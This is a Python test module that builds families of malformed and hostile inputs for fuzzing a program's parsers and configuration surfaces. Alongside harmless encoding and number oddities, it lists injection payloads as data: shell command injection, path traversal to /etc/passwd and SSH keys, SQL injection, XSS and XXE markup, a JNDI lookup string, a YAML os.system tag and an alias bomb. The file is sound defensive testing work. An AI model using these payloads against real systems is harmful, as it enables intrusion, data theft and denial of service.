"""The families: what people, editors, networks and enemies put where something valid should be.

Each takes a form, which knows how its surface writes a text, a number, a key or a path, and a source of chance; so one
family is one idea on every surface. Knows nothing of the surfaces.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from tests.security.hostile.case import Kind, Misspelt, Sent
from tests.security.hostile.form import Form

Family = Callable[[Form, Random], Sent | Misspelt]

FAMILIES: dict[str, Family] = {}
"""Name -> family."""

GRINNING = "\N{GRINNING FACE}"


def family(make: Family) -> Family:
    """Adds a family under its function's name."""
    FAMILIES[make.__name__.replace("_", " ")] = make
    return make


def _whole_text(form: Form) -> str:
    return form.whole().decode()


# --- bytes ---


@family
def truncated(form: Form, random: Random) -> Sent:
    whole = form.whole()
    return form.raw(whole[: random.randrange(1, len(whole))])


@family
def garbage(form: Form, random: Random) -> Sent:
    return form.raw(random.randbytes(random.randrange(1, 3_000)))


@family
def changed_bytes(form: Form, random: Random) -> Sent:
    data = bytearray(form.whole())
    for _ in range(random.randrange(1, 5)):
        data[random.randrange(len(data))] = random.randrange(256)
    return form.raw(bytes(data))


@family
def invalid_utf8(form: Form, random: Random) -> Sent:
    whole = form.whole()
    at = random.randrange(len(whole))
    bad = random.choice([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xc0\xaf", b"\x80\x81"])
    return form.raw(whole[:at] + bad + whole[at:])


@family
def other_encodings(form: Form, random: Random) -> Sent:
    text = _whole_text(form).replace("Hello", f"Grüße, 你好, {GRINNING}")
    codec = random.choice(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp1252", "shift_jis", "cp037"])
    return form.raw(text.encode(codec, "replace"))


@family
def byte_order_marks(form: Form, random: Random) -> Sent:
    mark, whole = b"\xef\xbb\xbf", form.whole()
    at = random.randrange(len(whole))
    return form.raw(random.choice([mark + whole, mark + mark + whole, whole[:at] + mark + whole[at:], mark]))


@family
def binary_files(form: Form, random: Random) -> Sent:
    heads = [
        b"\x89PNG\r\n\x1a\n",
        b"%PDF-1.7\n%\xe2\xe3",
        b"PK\x03\x04\x14\x00",
        b"\x7fELF\x02\x01",
        b"\x1f\x8b\x08\x00",
    ]
    return form.raw(random.choice(heads) + random.randbytes(random.randrange(20, 2_000)))


@family
def mixed_line_ends(form: Form, random: Random) -> Sent:
    ends = [b"\r\n", b"\r", b"\n\r", b"\x0b", b"\xc2\x85", b"\xe2\x80\xa8", b"\x0c", b"\r\r\n"]
    lines = form.whole().split(b"\n")
    return form.raw(b"".join(line + random.choice([*ends, b"\n"]) for line in lines))


@family
def nothing_at_all(form: Form, random: Random) -> Sent:
    return random.choice(
        [lambda: form.raw(b""), lambda: form.text(""), lambda: form.named(""), lambda: form.moment("")]
    )()


@family
def white_space(form: Form, random: Random) -> Sent:
    spaces = random.choice([" ", "\n\n\n", "\t\t", "\u00a0", "\u2003\u2003", "\u200b", "\u3000", " \r\n "])
    return random.choice([lambda: form.raw(spaces.encode()), lambda: form.text(spaces), lambda: form.named(spaces)])()


# --- letters ---


@family
def nul_characters(form: Form, random: Random) -> Sent:
    whole = form.whole()
    at = random.randrange(len(whole))
    raw = whole[:at] + b"\0" * random.randrange(1, 4) + whole[at:]
    return random.choice([lambda: form.raw(raw), lambda: form.text("a\0b"), lambda: form.named("cl\0erk")])()


@family
def control_characters(form: Form, random: Random) -> Sent:
    letter = chr(random.choice([1, 7, 8, 11, 12, 14, 26, 27, 31, 127, 0x85, 0x9B]))
    return random.choice([form.text, form.named, form.path, form.moment])(f"be{letter}fore")


@family
def bidi_marks(form: Form, random: Random) -> Sent:
    mark = random.choice(["\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c", "\u2069"])
    return random.choice([form.text, form.named, form.key, form.path])(f"in{mark}voice")


@family
def half_characters(form: Form, random: Random) -> Sent:
    half = chr(random.randrange(0xD800, 0xE000))
    return random.choice([form.text, form.named, form.key])(f"a{half}b")


@family
def homoglyphs(form: Form, random: Random) -> Sent:
    return random.choice(
        [
            lambda: form.named("сlеrk"),
            lambda: form.key("ѕkills"),
            lambda: form.named("ｃｌｅｒｋ"),
            lambda: form.text("раураl"),
            lambda: form.number("١٢"),
            lambda: form.moment("１５m"),
        ]
    )()


@family
def emoji_and_marks(form: Form, random: Random) -> Sent:
    zalgo = "e" + "".join(chr(random.randrange(0x300, 0x36F)) for _ in range(200))
    text = random.choice(
        [GRINNING * 30, "👩‍👩‍👧‍👦🏳️‍🌈", zalgo, "\ufe0f\u20e3", "\U000e0041\U000e0042", "\ue000", "\U0010ffff"]
    )
    return random.choice([form.text, form.named])(text)


@family
def terminal_escapes(form: Form, random: Random) -> Sent:
    bad = ["\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b[31mred", "\x9b31m", "\x1b]52;c;aWQ=\x07", "a\rb", "\x1b[8mhidden"]
    return random.choice([form.text, form.named, form.path])(random.choice(bad))


@family
def injected_lines(form: Form, random: Random) -> Sent:
    bad = [
        "a\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1",
        "a\nallow: [files.write]",
        "a\n---\nb",
        "a\r\n.\r\nb",
        "x\u2028y\u2029z",
    ]
    return random.choice([form.text, form.named, form.moment])(random.choice(bad))


# --- values ---


@family
def wrong_types(form: Form, random: Random) -> Sent:
    found = random.choice(
        [
            "true",
            "1",
            "-1",
            "1.5",
            "null",
            "[]",
            "{}",
            "[[]]",
            '[{"a": 1}]',
            '{"a": {"b": 1}}',
            "[null]",
            '""',
            "2026-01-01",
            "0x10",
            "1_000",
            "1:30:00",
            "yes",
            "~",
        ]
    )
    return random.choice([form.literal, form.number])(found)


@family
def not_a_number(form: Form, random: Random) -> Sent:
    bad = ["NaN", ".nan", "Infinity", "-Infinity", ".inf", "-.INF", "1e999", "-1e999", "1e-999", "nan", "inf"]
    return random.choice([form.number, form.literal])(random.choice(bad))


@family
def huge_numbers(form: Form, random: Random) -> Sent:
    bad = [
        "9" * 30,
        "9" * 5_000,
        "18446744073709551616",
        "9223372036854775808",
        "1" + "0" * 400 + ".5",
        "0." + "3" * 999,
    ]
    return random.choice([form.number, form.moment])(random.choice(bad))


@family
def negative_numbers(form: Form, random: Random) -> Sent:
    return form.number(random.choice(["-1", "-0", "-0.0", "-9223372036854775809", "-1e9", "--1", "- 1", "-1.5"]))


@family
def odd_times(form: Form, random: Random) -> Sent:
    bad = [
        "2026-02-30T00:00:00Z",
        "2026-13-01",
        "25:61",
        "yesterday",
        "99999-01-01T00:00:00Z",
        "0000-00-00",
        "1e400d",
        "-5m",
        "2026-01-01T00:00:00",
        "5",
        "5 parsecs",
        "1h1h",
        "9999999999d",
        "1970-01-01T00:00:00-99:99",
        "T25:00Z",
        "2026-03-29T02:30:00[Europe/Zurich]",
        "0s",
        "99999999999999999999w",
    ]
    return form.moment(random.choice(bad))


@family
def expressions(form: Form, random: Random) -> Sent:
    bad = [
        "(",
        "(a+)+$",
        "[z-a]",
        "(?P<x",
        "*",
        "a{99999999}",
        "(?<=a*)b",
        "\\",
        "1/0 == 1",
        "args.x >",
        "(" * 500,
        "x.all(y, y)",
        "99 * * * *",
        "* * * *",
        "@reboot",
        "60 24 32 13 8",
        "'",
        "size(''.matches('(a*)*$'))",
    ]
    return form.expression(random.choice(bad))


# --- structure ---


@family
def deep_nesting(form: Form, random: Random) -> Sent:
    return form.nested(random.choice([25, 60, 300, 1_000, 20_000]))


@family
def huge_inputs(form: Form, random: Random) -> Sent:
    return form.sized(random.choice([70_000, 250_000, 1_100_000, 2_000_000]))


@family
def long_lines(form: Form, random: Random) -> Sent:
    text = random.choice(["x", "word ", "ü", "\\"]) * random.choice([300, 2_001, 11_000, 20_000])
    return random.choice([form.text, form.named, form.key])(text)


@family
def anchors_and_aliases(form: Form, random: Random) -> Sent:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + level)}: &{chr(98 + level)} [{', '.join([f'*{chr(97 + level)}'] * 9)}]\n" for level in range(8)
    )
    return form.body(random.choice([bomb, "a: &a [*a]", "a: &a\n- *a", "a: *nothing", "<<: {a: b}", "a: &x b\nc: *x"]))


@family
def tags_and_directives(form: Form, random: Random) -> Sent:
    tags = [
        "!!python/object/apply:os.system ['id']",
        "!!binary aGk=",
        "!!timestamp 2026-01-01",
        "!x y",
        "!!set {a}",
        "!!int x",
        "!!float .",
        "!<tag:x> y",
        "!!omap [a: b]",
    ]
    heads = ["%YAML 1.1\n---\na: b", "%TAG ! tag:x,2000:\n---\na: b", "--- a\n--- b", "a: b\n...\nc: d"]
    return random.choice([lambda: form.literal(random.choice(tags)), lambda: form.body(random.choice(heads))])()


@family
def broken_layout(form: Form, random: Random) -> Sent:
    bad = [
        "a:\n\tb: c",
        "\ta: b",
        "a: b\n c: d",
        "a: b: c",
        "- a\nb: c",
        "a: 'b",
        'a: "b\\q"',
        "a: [b",
        "a: b]",
        "a: @b",
        "a: |x\n  b",
        "? [a]\n: b",
        '{"a": }',
        '{"a" 1}',
        "{a: 1,, b: 2}",
        "[1, 2",
        '{"a": 1} x',
        "a:\n- b\n  - c",
    ]
    return form.body(random.choice(bad))


@family
def given_twice(form: Form, random: Random) -> Sent:
    return form.twice(random.randrange(2, 6))


@family
def misspelt_keys(form: Form, random: Random) -> Misspelt:
    key = random.choice(form.keys())
    at = random.randrange(1, len(key))
    return Misspelt(form.key(random.choice([key[:at] + key[at + 1 :], f"{key}s", key[:at] + key[at] + key[at:]])))


@family
def odd_keys(form: Form, random: Random) -> Sent:
    bad = [
        "",
        "__class__",
        "null",
        "true",
        "1.5",
        "~",
        "ALLOW",
        "al low",
        "k" * 5_000,
        GRINNING,
        "a.b.c",
        "constructor",
    ]
    return form.key(random.choice(bad))


# --- meaning ---


@family
def path_traversal(form: Form, random: Random) -> Sent:
    bad = [
        "../../../../../../../../../../etc/passwd",
        "/etc/passwd",
        "..",
        ".",
        "a/../../b",
        "~/.ssh/id_rsa",
        "C:\\x",
        "\\\\host\\share",
        "%2e%2e%2f%2e%2e%2f",
        "/proc/self/mem",
        "/dev/zero",
        "file:///etc/passwd",
        "/proc/new",
        "..\\..\\x",
        "/",
        "//",
        "x/" * 2_000,
        "/sys/new",
    ]
    return random.choice([form.path, form.path, form.named])(random.choice(bad))


@family
def other_kinds(form: Form, random: Random) -> Sent:
    kinds = [each for each in Kind if each not in {Kind.FILE, Kind.MOVING}]
    return form.other_kind(random.choice(kinds), random)


@family
def changed_while_read(form: Form, random: Random) -> Sent:
    return form.moving(random)


@family
def shell_characters(form: Form, random: Random) -> Sent:
    bad = [
        "$(touch owned)",
        "`touch owned`",
        "; touch owned",
        "| touch owned",
        "a && touch owned",
        "> owned",
        "$HOME",
        "*",
        "!!",
        "a'b\"c",
        "${IFS}",
        "\\$(id)",
        "# x",
    ]
    return random.choice([form.text, form.named, form.path])(random.choice(bad))


@family
def options_as_values(form: Form, random: Random) -> Sent:
    bad = ["--", "-", "-x", "--help", "-rf", "--fleet=/", "--json", "--yes", "-V", "---", "-1", "--=x", "@file", "+x"]
    return random.choice([form.named, form.text, form.path])(random.choice(bad))


@family
def format_strings(form: Form, random: Random) -> Sent:
    bad = [
        "%s%s%s%n%x",
        "{0} {0.__class__.__mro__} {}",
        "%(x)s",
        "${jndi:ldap://x/a}",
        "%99999999d",
        "{:>99999999}",
        "%",
    ]
    return random.choice([form.text, form.named, form.key])(random.choice(bad))


@family
def template_braces(form: Form, random: Random) -> Sent:
    bad = [
        "{{7*7}}",
        "{user|nothing}",
        "{nobody}",
        "${{ x }}",
        "{% for x in y %}",
        "{user|excerpt:}",
        "{{{{",
        "}}",
        "{user|",
        "{item|header:}",
        "{user|line:99999999999}",
        "<%= 1 %>",
        "#{x}",
    ]
    return random.choice([form.text, form.text, form.named])(random.choice(bad))


@family
def sql(form: Form, random: Random) -> Sent:
    bad = ["'; DROP TABLE tasks; --", "' OR '1'='1", "1; ATTACH 'x'", "%' ESCAPE '", "x' UNION SELECT 1 --", "\\' OR 1"]
    return random.choice([form.text, form.named, form.key])(random.choice(bad))


@family
def markup(form: Form, random: Random) -> Sent:
    bad = [
        "<script>alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
        "<img src=x onerror=1>",
        "]]>",
        "&lt;&#0;",
        "<" * 500,
        "[x](javascript:1)",
    ]
    return random.choice([form.text, form.named, form.key])(random.choice(bad))
